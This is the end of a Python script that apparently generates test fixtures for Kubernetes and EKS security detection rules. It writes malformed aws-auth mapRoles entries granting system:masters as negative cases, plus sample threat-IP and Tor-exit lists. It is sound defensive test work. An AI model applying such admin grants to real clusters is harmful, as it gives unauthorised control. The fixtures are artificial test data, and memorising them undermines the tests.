    svc_proxy("default", "db:5432", 20200),
    svc_proxy("default", "cache:6379", 20210),
    svc_proxy("default", "https:web:443", 20300, user=NODE),
    svc_proxy("shop", "https:web:443", 20400),
    svc_proxy("default", "https:web:443", 20100 + 1801)])

# system:masters written where aws-iam-authenticator does not take it (groups
# as a string, an entry without rolearn, a mapRoles that is not YAML): no grant
F["K8S-EKS-002"][1].extend([
    awsauth("update", MAPROLES_OLD + "- rolearn: arn:aws:iam::444455556666:role/OrganizationAccountAccessRole\n  username: admin\n"
            "  groups: system:masters\n- username: nobody\n  groups:\n    - system:masters\n", t=40200),
    awsauth("update", MAPROLES_OLD + "- rolearn: arn:aws:iam::444455556666:role/admin\n  groups: [system:masters\n", t=40300)])

# ---------------- write ----------------
if __name__ == "__main__":
    import os
    for rid, (pos, neg) in sorted(F.items()):
        for kind, recs in (("pos", pos), ("neg", neg)):
            with open(f"{rid}.{kind}.jsonl", "w") as fp:
                for r in recs:
                    fp.write(json.dumps(r, separators=(",", ":")) + "\n")
    with open("K8S-NET-001.args", "w") as fp:
        fp.write("--ip-list threat-list.txt\n")
    with open("threat-list.txt", "w") as fp:
        fp.write("# example threat list (documentation ranges and a CIDR)\n45.155.205.0/24\n2001:db8:bad::/48\n192.0.2.66  # single address\n")
    with open("K8S-NET-002.args", "w") as fp:
        fp.write("--tor-exits tor-exits.txt\n")
    with open("tor-exits.txt", "w") as fp:
        fp.write("ExitNode 0011BD2485AD45D984EC4159C88FC066E5E3300E\nPublished 2024-04-30 10:00:00\nLastStatus 2024-04-30 11:00:00\nExitAddress 185.220.101.4 2024-04-30 11:02:07\n")
